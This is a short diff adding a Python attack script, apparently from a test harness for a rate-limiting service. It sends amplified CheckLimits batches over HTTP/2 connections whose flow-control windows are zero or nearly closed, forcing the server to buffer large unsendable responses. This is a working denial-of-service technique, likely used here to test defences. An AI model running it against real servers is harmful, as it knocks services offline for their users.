@@ -1,0 +1,27 @@
+"""Batches of 26 KB whose answers have 700 KB, while the window of flow control is closed or nothing
+is read: the answers cannot be sent.
+"""
+
+from attacker import message, send, settings
+
+CONNECTIONS, STREAMS, CHECKS = 20, 40, 1000
+SERVER = {"rules": "".join(
+    f"  - name: a-rule-with-a-long-name-for-long-answers-{number}\n"
+    "    match: {endpoint: /wide}\n"
+    "    limits: [{algorithm: fixed_window, limit: 100000000, window: 1d}]\n"
+    for number in range(8))}
+
+
+def attack(attacker):
+    check = message(endpoint="/wide", user="")
+    body = (b"\x0a" + bytes((len(check),)) + check) * CHECKS
+    calls = [attacker.call(stream, body, b"CheckLimits") for stream in range(1, 2 * STREAMS, 2)]
+    windows = attacker.many(CONNECTIONS, lambda: attacker.http2(
+        first=settings(initial_window=0), patience=0.05))
+    sockets = attacker.many(CONNECTIONS, lambda: attacker.http2(
+        first=settings(initial_window=2**31 - 1), patience=0.05, receive_buffer=4096))
+    open_ = windows + sockets
+    for call in calls:
+        open_ = [connection for connection in open_
+                 if not attacker.stopped.is_set() and send(connection, call)]
+    attacker.over(None)
